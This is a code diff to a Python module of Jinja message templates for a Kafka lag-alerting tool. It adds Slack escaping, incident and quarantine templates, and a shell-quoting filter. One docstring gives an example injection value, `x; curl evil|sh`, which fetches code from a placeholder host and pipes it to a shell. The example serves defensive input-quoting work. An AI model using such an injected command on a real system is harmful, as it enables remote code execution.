@@ -1,9 +1,12 @@
 """Message bodies, as Jinja templates (Slack mrkdwn unless said otherwise).
 
 Every ``{{ value }}`` is escaped for mrkdwn by the environment (``finalize``),
-so a group called ``<!channel>`` or ``a&b`` shows as written and pings nobody.
+so a group called ``<!channel>`` or ``a&b`` shows as written and pings nobody;
+it is also put on one line with backticks as ``'``, so no value can start a
+line of its own or open a code span.
 Literal template text is trusted markup. ``| code`` additionally keeps a value
-from closing an inline code span.
+from closing an inline code span; ``| shell`` makes it one shell word, for a
+command inside Slack text (runbook commands are quoted by lagdoctor.runbooks).
 """
 
 from __future__ import annotations
@@ -38,6 +41,24 @@ TEMPLATES: dict[str, str] = {
     "failure": ":x: Airflow DAG *{{ dag_id }}* failed: task `{{ task_id | code }}` in run `{{ run_id | code }}`"
                "{% if reason %}\n{{ reason }}{% endif %}",
     "failure_fallback": "Airflow DAG {{ dag_id }} failed: task {{ task_id }} in run {{ run_id }}",
+    "failure_recovery": ":large_green_circle: Airflow DAG *{{ dag_id }}* recovered after {{ failed_runs }} failed "
+                        "run(s): run `{{ run_id | code }}` succeeded.",
+    "failure_recovery_fallback": "Airflow DAG {{ dag_id }} recovered after {{ failed_runs }} failed run(s)",
+    # Unknown is never zero: said plainly wherever a verdict rests on incomplete data.
+    "incomplete_data": ":warning: *Incomplete data:* this verdict rests on offsets lagdoctor could not "
+                       "all read ({{ count }} failed read(s)):",
+    "offset_reset": ":rewind: Log end offset went backwards (topic recreated or truncated?) on "
+                    "partition(s) {{ partitions }}: lag there is not comparable across the window.",
+    "data_incomplete": ":grey_question: *Data incomplete* for group `{{ group | code }}` on `{{ topic | code }}`: "
+                       "some offsets could not be read, so lagdoctor cannot tell whether the {{ diagnosis }} "
+                       "has recovered. The thread stays open.",
+    "data_incomplete_fallback": "Data incomplete for {{ group }}: the thread stays open",
+    "approval_how_to": ":point_right: To act: trigger `kafka_lag_incident` with cluster `{{ cluster | code }}`, "
+                       "group_pattern `{{ pattern | code }}` and dry_run off; it asks for approval in Airflow.",
+    "quarantine": ":warning: *{{ count }} snapshot file(s) moved aside:* the diagnosis could not read them "
+                  "and ran on the rest.",
+    "quarantine_line": "• `{{ path | code }}`: {{ reason }} (now `{{ moved_to | code }}`)",
+    "quarantine_fallback": "lagdoctor moved {{ count }} unreadable snapshot file(s) aside",
 }
 
 # HITL approval: Markdown for the Airflow UI, not Slack; not escaped for mrkdwn.
@@ -61,19 +82,36 @@ def escape_mrkdwn(value: object) -> str:
     return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
 
 
+def shell_quote(value: object) -> str:
+    """One shell word, whatever the value holds (`x; curl evil|sh` stays one argument)."""
+    import shlex
+
+    return shlex.quote("" if value is None else str(value))
+
+
 def code_safe(value: object) -> str:
     """Keep a value inside a code span/block: no backtick, no line break."""
     text = "" if value is None else str(value)
     return " ".join(text.replace("`", "'").split()) if text.strip() else text
 
 
+def mrkdwn_value(value: object) -> str:
+    """A value as it enters a message: one line, no backtick (Slack cannot escape one),
+    then escaped. A line break or backtick in a name or reason cannot forge a line or
+    open a code span; the template's own text keeps its markup."""
+    text = "" if value is None else str(value)
+    return escape_mrkdwn(" ".join(text.replace("`", "'").split()) if "`" in text or "\n" in text or "\r" in text
+                         else text)
+
+
 @lru_cache(maxsize=1)
 def mrkdwn_env():
     from jinja2 import Environment, StrictUndefined
 
-    env = Environment(finalize=escape_mrkdwn, autoescape=False, undefined=StrictUndefined,
+    env = Environment(finalize=mrkdwn_value, autoescape=False, undefined=StrictUndefined,
                       keep_trailing_newline=False)
     env.filters["code"] = code_safe
+    env.filters["shell"] = shell_quote
     return env
 
 
